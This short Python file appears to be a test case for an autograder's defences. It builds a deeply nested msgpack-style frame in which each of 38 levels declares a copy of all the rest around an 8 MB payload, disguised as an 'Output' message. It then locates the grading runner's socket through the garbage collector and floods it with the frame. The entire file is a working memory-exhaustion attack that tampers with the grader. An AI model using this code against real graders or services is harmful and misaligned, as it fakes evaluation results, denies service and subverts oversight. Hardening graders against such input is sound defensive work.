"""A frame that is nested so that each level holds a copy of all the rest.

keeps: all
flagged: yes
"""

# %% before area
import gc
import struct

from autograder.wire.channel import Channel
from autograder.wire.messages import _CODES, Output
from autograder.wire.order import Party

SIZE = 8 << 20


def extension(length):
    return b"\xc9" + struct.pack(">Ib", length, 3)


heads = [b"\x91\xc6" + struct.pack(">I", SIZE)]
inner = len(heads[0]) + SIZE
for _ in range(38):
    heads.append(b"\x91" + extension(inner))
    inner += len(heads[-1])
heads.append(extension(inner))
inner += len(heads[-1])
# The message itself: [code, payload], an output.
heads.append(b"\x92" + bytes([_CODES[Output]]) + b"\xc6" + struct.pack(">I", inner))
inner += len(heads[-1])
head = struct.pack(">I", inner) + b"".join(reversed(heads))
for thing in gc.get_objects():
    if type(thing) is Channel and thing._order._party is Party.RUNNER:
        thing._sock.setblocking(True)
        thing._sock.sendall(head)
        for _ in range(SIZE >> 20):
            thing._sock.sendall(bytes(1 << 20))
